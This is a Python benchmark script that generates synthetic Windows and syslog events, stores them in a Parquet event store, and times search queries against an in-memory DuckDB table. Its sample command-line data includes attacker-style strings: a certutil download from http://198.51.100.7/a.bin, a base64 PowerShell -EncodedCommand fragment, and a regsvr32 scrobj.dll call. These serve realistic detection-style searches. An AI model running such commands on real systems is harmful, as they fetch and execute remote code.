"""Search speed of the Parquet event store against a DuckDB table in memory, in one run.

    python benchmarks/bench_search.py [--events 10000000] [--batch 100000] [--repeat 5]
        [--dir DIR] [--keep] [--threads 2] [--memory-limit 1GB] [--no-original]
        [--compact-min-files 16]

Generates Windows- and syslog-shaped events with Polars (hosts, users, processes with
paths and command lines, source addresses, Windows event ids, a raw record; ids shaped as
the pipeline makes them, ``<spool seq:012x>-<offset>``), writes them
through ``ParquetEventStore.write`` in batches as the server does, compacts, then times,
as medians over ``--repeat`` runs:

* a field filter with the newest 100 matches (what a search page asks),
* a case-insensitive wildcard over command lines (count),
* a count by host (top 10),
* a count over one hour,
* fetching 20 events by id;

and the same queries over one DuckDB table holding the same events in memory (the
reference, built in the same run), with the ratio. Also prints write and compaction
throughput, files and bytes on disk, and what reading the file footers costs.
The data stays in ``--dir`` (default: a new temporary folder, removed at the end).
"""

from __future__ import annotations

import argparse
import shutil
import statistics
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import duckdb
import numpy as np
import polars as pl

from watchkeeper.store import ParquetEventStore

START = datetime(2025, 3, 3, tzinfo=UTC)
DAY_US = 24 * 3600 * 1_000_000
PROCESSES = [
    "svchost.exe", "explorer.exe", "chrome.exe", "msedge.exe", "outlook.exe", "teams.exe",
    "powershell.exe", "cmd.exe", "conhost.exe", "lsass.exe", "services.exe", "winlogon.exe",
    "taskhostw.exe", "searchindexer.exe", "onedrive.exe", "excel.exe", "winword.exe",
    "rundll32.exe", "regsvr32.exe", "certutil.exe", "wmiprvse.exe", "msiexec.exe",
    "sshd", "cron", "systemd", "nginx", "python3", "bash", "sudo", "dockerd",
]
WEIGHTS = np.array([30, 20, 18, 10, 8, 6, 4, 5, 5, 3, 3, 2, 2, 2, 2, 2, 2, 1.0, 0.3, 0.05,
                    1, 0.5, 2, 2, 3, 2, 1, 2, 1, 1])
ARGUMENTS = [
    "", "-k netsvcs -p", "--type=renderer --lang=en-US", "/c whoami",
    "-NoProfile -Command Get-Date",
    "-EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "/S /Q C:\\Temp\\*",
    "-urlcache -split -f http://198.51.100.7/a.bin", "/i package.msi /quiet", "-c 'id; uname -a'",
    "--config /etc/app.yaml", "shell32.dll,Control_RunDLL", "/s scrobj.dll",
]
DATASETS = ["windows.sysmon", "windows.security", "syslog"]
EVENT_IDS = {"windows.sysmon": ["1", "3", "5", "7", "10", "11", "13", "22"],
             "windows.security": ["4624", "4625", "4634", "4672", "4688"],
             "syslog": [None]}


def pool(prefix: str, size: int) -> pl.Series:
    return pl.Series([f"{prefix}{i:05d}" for i in range(size)], dtype=pl.String)


def generate(total: int, batch: int, seed: int, original: bool) -> Iterator[pl.DataFrame]:
    """Batches of events, vectorized; ``@timestamp`` spread over one day in order."""
    rng = np.random.default_rng(seed)
    hosts, users = pool("ws-", 2000), pool("user", 5000)
    names = pl.Series(PROCESSES)
    paths = pl.Series([f"C:\\Windows\\System32\\{p}" if p.endswith(".exe") else f"/usr/bin/{p}"
                       for p in PROCESSES])
    arguments = pl.Series(ARGUMENTS)
    addresses = pl.Series([f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}" for i in
                           rng.integers(0, 1 << 24, 50_000)])
    weights = WEIGHTS / WEIGHTS.sum()
    epoch_us = int(START.timestamp()) * 1_000_000
    step = DAY_US // total
    for start in range(0, total, batch):
        n = min(batch, total - start)
        micros = (np.arange(start, start + n) * step + rng.integers(0, max(1, step), n)
                  + epoch_us)
        process = rng.choice(len(PROCESSES), n, p=weights)
        dataset = pl.Series(rng.choice(3, n, p=[0.6, 0.3, 0.1]))
        sysmon = pl.Series(EVENT_IDS["windows.sysmon"]).gather(rng.integers(0, 8, n))
        security = pl.Series(EVENT_IDS["windows.security"]).gather(rng.integers(0, 5, n))
        frame = pl.DataFrame({
            "@timestamp": pl.Series(micros).cast(pl.Datetime("us")).dt.replace_time_zone("UTC"),
            "event.id": pl.Series(np.arange(n)).cast(pl.String),
            "event.dataset": pl.Series(DATASETS).gather(dataset),
            "host.name": hosts.gather(rng.integers(0, len(hosts), n)),
            "user.name": users.gather(rng.integers(0, len(users), n)),
            "process.name": names.gather(process),
            "process.executable": paths.gather(process),
            "args": arguments.gather(rng.integers(0, len(arguments), n)),
            "source.ip": addresses.gather(rng.integers(0, len(addresses), n)),
            "EventID": pl.select(pl.when(dataset == 0).then(sysmon)
                                 .when(dataset == 1).then(security)).to_series(),
        })
        ingested = START + timedelta(microseconds=int(DAY_US * (start + n - 1) // total))
        frame = frame.with_columns(
            (pl.lit(f"{start // batch:012x}-") + pl.col("event.id")).alias("event.id"),
            pl.lit(ingested).cast(pl.Datetime("us", "UTC")).alias("event.ingested"),
            pl.lit("tcp://10.0.0.1:514").alias("log.file.path"),
            pl.int_range(start, start + n, dtype=pl.Int64).alias("log.offset"),
            pl.concat_str("process.executable", "args", separator=" ").alias("CommandLine"),
        ).drop("args")
        if original:
            frame = frame.with_columns(pl.format(
                "<14>{} {} {}[{}]: user={} src={} cmd={}", "@timestamp", "host.name",
                "process.name", "EventID", "user.name", "source.ip", "CommandLine",
            ).alias("event.original"))
        yield frame


def median_ms(repeat: int, work: Callable[[], object]) -> float:
    times = []
    for _ in range(repeat):
        began = time.perf_counter()
        work()
        times.append(time.perf_counter() - began)
    return statistics.median(times) * 1000


def size_of(root: Path) -> int:
    return sum(path.stat().st_size for path in root.rglob("*.parquet"))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--events", type=int, default=10_000_000)
    parser.add_argument("--batch", type=int, default=100_000)
    parser.add_argument("--repeat", type=int, default=5)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--dir", type=Path, default=None)
    parser.add_argument("--keep", action="store_true", help="keep the data folder")
    parser.add_argument("--threads", type=int, default=2)
    parser.add_argument("--memory-limit", default="1GB")
    parser.add_argument("--no-original", action="store_true", help="no event.original")
    parser.add_argument("--compact-min-files", type=int, default=16,
                        help="the store's setting: similar files merged at once")
    args = parser.parse_args(argv)
    work_dir = args.dir or Path(tempfile.mkdtemp(prefix="watchkeeper-bench-"))
    root = work_dir / "events"
    try:
        run(args, root)
    finally:
        if not args.keep:
            shutil.rmtree(root, ignore_errors=True)
            if args.dir is None:
                shutil.rmtree(work_dir, ignore_errors=True)
    return 0


def run(args: argparse.Namespace, root: Path) -> None:
    settings = {"memory_limit": args.memory_limit, "threads": args.threads}
    store = ParquetEventStore(root, compact_min_files=args.compact_min_files, **settings)
    generated = written = 0.0
    began = time.perf_counter()
    batches = generate(args.events, args.batch, args.seed, not args.no_original)
    seq = 0
    while True:
        tick = time.perf_counter()
        frame = next(batches, None)
        generated += time.perf_counter() - tick
        if frame is None:
            break
        tick = time.perf_counter()
        store.write(frame, seq, seq)
        written += time.perf_counter() - tick
        seq += 1
    files_before, bytes_before = seq, size_of(root)
    print(f"events: {args.events:,} in {seq} batches; generated in {generated:.1f} s, "
          f"written in {written:.1f} s ({args.events / written:,.0f} events/s), "
          f"{bytes_before / 1e6:,.0f} MB")

    with ParquetEventStore(root, read_only=True, **settings) as cold:
        footers_cold = median_ms(1, cold.columns)
        footers_warm = median_ms(args.repeat, cold.columns)
    print(f"columns() over {files_before} files: first {footers_cold:.1f} ms, "
          f"then {footers_warm:.2f} ms")

    tick = time.perf_counter()
    merged = store.compact()
    compacted = time.perf_counter() - tick
    files_after = len(list(root.glob("day=*/part-*.parquet")))
    print(f"compact: {merged} files merged in {compacted:.1f} s, {files_after} file(s) left, "
          f"{size_of(root) / 1e6:,.0f} MB ({size_of(root) / args.events:.0f} B/event)")
    print(f"all stored: {store.count() == args.events}; "
          f"build time {time.perf_counter() - began:.0f} s")

    reference = duckdb.connect(config={"threads": args.threads})
    reference.execute("SET TimeZone = 'UTC'")
    tick = time.perf_counter()
    reference.execute("CREATE TABLE events AS SELECT * FROM read_parquet(?, union_by_name=true, "
                      "hive_partitioning=false)",
                      [[str(p) for p in root.glob("day=*/part-*.parquet")]])
    print(f"reference: DuckDB table in memory, loaded in {time.perf_counter() - tick:.1f} s")

    hour = START + timedelta(hours=13)
    batches_written = -(-args.events // args.batch)
    some_ids = [f"{b * batches_written // 20:012x}-{b * 997 % min(args.batch, args.events)}"
                for b in range(20)]
    queries: list[tuple[str, str, list[object]]] = [
        ("field filter, newest 100",
         'SELECT * FROM events WHERE lower("process.name") = ? ORDER BY "@timestamp" DESC '
         "LIMIT 100", ["certutil.exe"]),
        ("wildcard (ILIKE) count",
         'SELECT count(*) FROM events WHERE "CommandLine" ILIKE ?', ["%-encodedcommand%"]),
        ("count by host, top 10",
         'SELECT "host.name", count(*) AS n FROM events GROUP BY 1 ORDER BY n DESC, 1 LIMIT 10',
         []),
        ("one hour, count",
         'SELECT count(*) FROM events WHERE "@timestamp" >= ? AND "@timestamp" < ?',
         [hour, hour + timedelta(hours=1)]),
        ("20 events by id",
         'SELECT * FROM events WHERE "event.id" IN (SELECT unnest(?::VARCHAR[]))', [some_ids]),
    ]
    print(f"\n{'query':<28}{'store ms':>10}{'table ms':>10}{'ratio':>8}  rows")
    figures = {}
    for name, sql, params in queries:
        ours = store.query(sql, params)
        theirs = reference.sql(sql, params=params).pl()
        same = ours.sort(pl.all()).equals(theirs.sort(pl.all()))
        store_ms = median_ms(args.repeat, lambda s=sql, p=params: store.query(s, p))
        table_ms = median_ms(args.repeat, lambda s=sql, p=params: reference.sql(s, params=p).pl())
        figures[name] = store_ms
        print(f"{name:<28}{store_ms:>10.1f}{table_ms:>10.1f}{store_ms / table_ms:>8.2f}  "
              f"{ours.height}{'' if same else ' (DIFFERS)'}")
    verdict = "met" if figures["field filter, newest 100"] < 1000 else "MISSED"
    print(f"\ntarget, field filter under 1 s over {args.events:,} events: {verdict}")
    reference.close()
    store.close()


if __name__ == "__main__":
    sys.exit(main())
